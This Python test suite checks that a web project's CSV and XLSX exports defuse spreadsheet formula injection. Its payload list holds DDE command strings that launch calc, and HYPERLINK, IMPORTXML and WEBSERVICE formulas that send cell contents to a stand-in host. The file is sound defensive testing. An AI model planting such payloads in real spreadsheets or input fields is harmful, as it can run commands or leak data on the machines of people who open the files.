"""S9: nothing that people or files wrote runs in the spreadsheet of whoever opens an export."""

import io
import re
import shutil
import subprocess
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kam.exports.cells import lasting, neutralise, revive
from kam.exports.sheets import CsvSheet, XlsxSheet
from tests.exports.conftest import csv_rows, rows_of, xlsx_rows

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"]
BEFORE = ["", " ", "  ", "\ufeff", "\u00a0", "\u200b", " \ufeff ", "'", "''", "\u2060"]
TAILS = ["1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", 'HYPERLINK("http://x.test?"&A1,"see")']
PAYLOADS = [f"{before}{sign}{tail}" for before in BEFORE for sign in SIGNS for tail in TAILS[:2]]
PAYLOADS += [f"={tail}" for tail in TAILS] + [
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"http://x.test/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.test/\"&A1)",
    "=1+1\",\"=2+2",
    "=1+1;=2+2",
    "+49 30 1234",
    "-5",
    "@lena",
    "{=1+1}",
    "=",
    "-",
    "-1+2+cmd|' /C calc'!A0",
    "\t\t=1",
    "\r\n=1",
    "a\n=1+1",
    "_x0041_",
    "_x003D_1+1",
    "http://x.test/",
    "mailto:a@x.test",
    "internal:Sheet1!A1",
    "{=SUM(A1)}",
    "\x01=1",
    "\x1b=1",
]  # fmt: skip
UNSEEN = re.compile("[\\s\ufeff\u00a0\u200b\u2060\0]*")


def written(kind, *rows):
    labels, kinds = ["A", "B"], ["text", "text"]
    sheet = CsvSheet(labels, kinds) if kind == "csv" else XlsxSheet(labels, kinds, name="x")
    for row in rows:
        sheet.write(row)
    return sheet.finish().read()


def test_there_are_more_than_a_hundred_payloads():
    assert len(set(PAYLOADS)) > 300


@pytest.mark.parametrize("decimal", [".", ","])
def test_no_cell_of_a_csv_begins_like_a_formula(decimal):
    sheet = CsvSheet(["A", "B"], ["text", "text"], decimal=decimal)
    for payload in PAYLOADS:
        sheet.write([payload, payload])
    head, *rows = csv_rows(sheet.finish().read())
    for payload, row in zip(PAYLOADS, rows, strict=True):
        for cell in row:
            first = UNSEEN.sub("", cell, count=1)[:1]
            assert first not in set(SIGNS), (payload, cell)
            assert cell[:1] not in {"\t", "\r", "\n"}
            assert revive(cell) == payload
    assert head == ["A", "B"]


def test_no_cell_of_a_workbook_is_a_formula_or_a_link():
    """Without LibreOffice the sheet itself is read: no <f>, every text a string."""
    content = written("xlsx", *([payload, payload] for payload in PAYLOADS))
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert not re.search(r"<f[ >/]", sheet)
    assert "hyperlink" not in sheet
    assert "externalLink" not in "".join(names)
    cells = re.findall(r"<c [^>]*>", sheet)
    assert len(cells) == 2 * len(PAYLOADS) + 2
    assert all(re.search(r't="(inlineStr|s)"', cell) for cell in cells)


def test_texts_come_back_from_a_workbook():
    rows = xlsx_rows(written("xlsx", *([payload, "x"] for payload in PAYLOADS)))
    got = [revive(str(row[0])) for row in rows[1:]]
    assert [(g, p) for g, p in zip(got, PAYLOADS, strict=True) if g != p] == []


@given(st.text(st.characters(exclude_categories=("Cs",)), max_size=30))
def test_making_harmless_can_always_be_taken_back(text):
    assert revive(neutralise(text)) == text
    assert revive(lasting(text)) == text
    assert UNSEEN.sub("", neutralise(text), count=1)[:1] not in set(SIGNS)


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed here")
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_nothing_is_computed_in_libreoffice(tmp_path, kind):
    path = tmp_path / f"file.{kind}"
    path.write_bytes(written(kind, *([payload, "x"] for payload in PAYLOADS)))
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(path)],
        check=True, timeout=120, capture_output=True,
    )  # fmt: skip
    assert "table:formula" not in (tmp_path / "file.fods").read_text()


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_names_of_accounts_stay_harmless_from_the_form_to_the_file(register, take, kind):
    names = [payload for payload in PAYLOADS if payload.split()]
    register(*names)
    rows = rows_of(take("accounts/", kind))
    assert len(rows) == len(names)
    if kind == "csv":
        for row in rows:
            for cell in row.values():
                if cell[:1] == "-" and re.fullmatch(r"-[0-9.]+", cell):
                    continue
                assert UNSEEN.sub("", cell, count=1)[:1] not in set(SIGNS), cell
